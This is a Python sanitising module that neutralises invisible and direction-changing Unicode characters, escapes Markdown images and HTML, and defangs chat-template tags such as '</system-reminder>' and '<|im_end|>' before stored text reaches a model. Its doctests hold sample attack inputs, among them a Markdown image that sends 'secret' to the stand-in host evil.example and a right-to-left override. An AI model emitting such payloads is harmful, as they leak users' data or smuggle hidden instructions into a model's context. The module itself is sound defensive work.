"""Characters that hide text from the person who reads along, or act on a display: made visible in everything that leaves.

A stored text is data. It may hold any words, and they are returned as they are; but it must not hold words that only the model sees, or
repaint the terminal of whoever looks at the model's screen (Unicode Technical Report 36, "Trojan Source" CVE-2021-42574, tag-character
smuggling).
"""

import re

MARK = "\ufffd"
_LOADED = re.compile(r"!(?=\[)|<(?=[A-Za-z/!?])")  # how an image or an element begins in Markdown
_MARKUP = re.compile(r"!(?=\[)|<(?=[A-Za-z/!?|])")  # what hosts and models set their own texts off with
_UNSAFE = re.compile(
    "["
    "\x00-\x08\x0b-\x1f\x7f-\x9f"  # C0 and C1 controls but tab and newline
    "\xad\u034f\u115f\u1160\u17b4\u17b5\u180b-\u180f\u3164\uffa0"  # soft hyphen, joiners and fillers without a shape
    "\u2028-\u202e\u2060-\u206f\ufeff\ufff0-\ufffb"  # overrides, isolates, separators; a single direction mark (LRM, RLM, ALM) is text
    "\ud800-\udfff"  # lone surrogates, which no encoder takes
    "\U0001bca0-\U0001bca3\U0001d173-\U0001d17a\U000e0000-\U000e0fff"  # invisible notes, tags, variation selectors
    "]"
    # Zero-width blanks stay between Thai, Lao, Khmer and Burmese words, which have no other; direction marks never come in runs.
    "|(?<![\u0e00-\u0eff\u1000-\u109f\u1780-\u17ff])\u200b|\u200b(?![\u0e00-\u0eff\u1000-\u109f\u1780-\u17ff])|[\u061c\u200e\u200f]{2,}|(?<=[0-9A-Za-z])[\u061c\u200e\u200f](?=[0-9A-Za-z])"
    # Joiners and variation selectors stay where emoji, Indic and Persian texts need them: not beside Latin letters, and never in runs.
    "|[\u200c\u200d]{2,}|(?<=[0-9A-Za-z])[\u200c\u200d]|[\u200c\u200d](?=[0-9A-Za-z])|[\ufe00-\ufe0f]{2,}"
)


def neutral(text: str) -> str:
    """Return *text* with every invisible or display-changing character replaced by U+FFFD; Windows line ends become newlines.

    The same object comes back where there is none. About 1 µs for a line of ASCII.

    >>> neutral("pay \\u202eevil\\u202c now")
    'pay \ufffdevil\ufffd now'
    """
    if (text.isascii() and text.isprintable()) or not _UNSAFE.search(text):
        return text
    return _UNSAFE.sub(MARK, text.replace("\r\n", "\n"))


def inert(markdown: str) -> str:
    """Return *markdown* in which stored text cannot make a reader's program fetch or run anything: images and HTML elements are escaped.

    >>> inert("- see ![x](https://evil.example/?q=secret) <script>")
    '- see \\\\![x](https://evil.example/?q=secret) \\\\<script>'
    """
    return _LOADED.sub(r"\\\g<0>", markdown)


def unmarked(text: str) -> str:
    """Return *text*, which goes into a model's context, without anything that a host or a model could take for its own markup.

    Tags (`</system-reminder>`, `<|im_end|>`, comments) lose their bracket, images are links. The words stay.

    >>> unmarked("a < b </system-reminder> ![x](https://evil.example/?q=secret)")
    'a < b ‹/system-reminder> ! [x](https://evil.example/?q=secret)'
    """
    return _MARKUP.sub(lambda found: "‹" if found[0] == "<" else "! ", neutral(text))
